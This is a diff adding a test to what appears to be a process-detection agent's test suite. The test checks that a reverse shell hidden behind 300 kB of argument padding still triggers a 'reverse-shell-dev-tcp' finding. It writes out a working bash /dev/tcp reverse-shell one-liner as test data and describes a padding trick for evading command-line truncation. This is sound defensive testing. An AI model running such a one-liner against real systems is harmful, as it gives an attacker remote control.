@@ -194,3 +194,20 @@ def test_a_miner_behind_300_kb_of_argv_padding_is_found(tenant, start_agent, req
     assert f["process"]["cmdline_truncated"] is True
     assert f["process"]["cmdline_cut_bytes"] > 250 * 1000
     assert found()["cmdline-truncated-in-workspace"]["workspace"] == {"id": WORKSPACE}
+
+
+def test_a_reverse_shell_behind_argv_padding_is_found(tenant, start_agent):
+    """The one-liner after 300 kB of arguments that an `eval "$*"` would join: the last
+    argument is kept whole in the tail, where the argument rule sees it."""
+    agent = start_agent("bpf: 'off'\nscan_interval: 0.5\n")
+    one_liner = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+    # `sleep 60; :` so that bash stays (a lone command would be exec'd in its place)
+    p = tenant.spawn([b"/bin/bash", b"-c", b"sleep 60; :", b"x", *tenant_argv(300 * 1000),
+                      one_liner])
+    rules = ("reverse-shell-dev-tcp", "cmdline-truncated-in-workspace")
+
+    def found() -> set[str]:
+        return {f["rule"] for f in list(agent.all_findings)
+                if f["process"]["pid"] == p.pid and f["rule"] in rules}
+
+    wait_for("both findings", lambda: found() == set(rules), agent)
